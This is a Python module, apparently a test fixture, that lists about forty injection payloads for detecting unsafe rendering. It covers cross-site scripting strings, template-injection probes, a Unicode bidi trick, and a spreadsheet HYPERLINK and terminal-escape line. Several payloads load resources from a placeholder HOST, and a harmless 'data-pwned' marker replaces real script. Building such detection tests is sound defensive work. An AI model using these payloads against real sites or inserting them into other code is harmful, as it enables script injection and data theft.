"""Forty texts that would act if a page, a terminal or a spreadsheet took them for more than text.

HOST stands for an address that notices requests; each that runs would also set `data-pwned` on the document.
"""

# No alert(): a headless browser would wait for ever. Whatever could show a dialog could set this too.
_RUN = "document.documentElement.setAttribute('data-pwned',1)"

PAYLOADS = tuple(
    text.replace("RUN", _RUN)
    for text in (
        "<script>RUN</script>",
        "</style><script>RUN</script>",
        "</title><script>RUN</script>",
        "</textarea></pre></td></table><script>RUN</script>",
        "--><script>RUN</script>",
        "]]><script>RUN</script>",
        "<SCRIPT SRC=HOST/a.js></SCRIPT>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<img src=x onerror=RUN>",
        '"><img src=HOST/b.png onerror=RUN>',
        "'><img src='HOST/c.png'>",
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        '<svg><image href="HOST/d.png"></svg>',
        "<body onload=RUN>",
        "<iframe src=HOST/e.html></iframe>",
        '<iframe srcdoc="<script>RUN</script>"></iframe>',
        "<object data=HOST/f.swf></object>",
        "<embed src=HOST/g.swf>",
        "<link rel=stylesheet href=HOST/h.css>",
        "<style>@import 'HOST/i.css';</style>",
        "<style>body{background:url(HOST/j.png)}</style>",
        '<div style="background:url(HOST/k.png)">x</div>',
        '" style="background:url(HOST/l.png)" x="',
        "' onmouseover='RUN' x='",
        '" autofocus onfocus=RUN x="',
        "<a href=javascript:RUN>go</a>",
        "javascript:RUN",
        "data:text/html,<script>RUN</script>",
        "<meta http-equiv=refresh content='0;url=HOST/m.html'>",
        "<base href=HOST/>",
        "<form action=HOST/n><button>x</button></form>",
        "<details open ontoggle=RUN>",
        "<video><source onerror=RUN></video>",
        "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
        "{{ 7 * 7 }}{% set x = 1 %}{{ config }}",
        "${7*7}#{7*7}<%= 7*7 %>",
        "&lt;script&gt;RUN&lt;/script&gt;",
        "\u202e<script>RUN</script>\u202d",
        "=HYPERLINK('HOST/o','x')\x1b]8;;HOST/p\x07",
    )
)
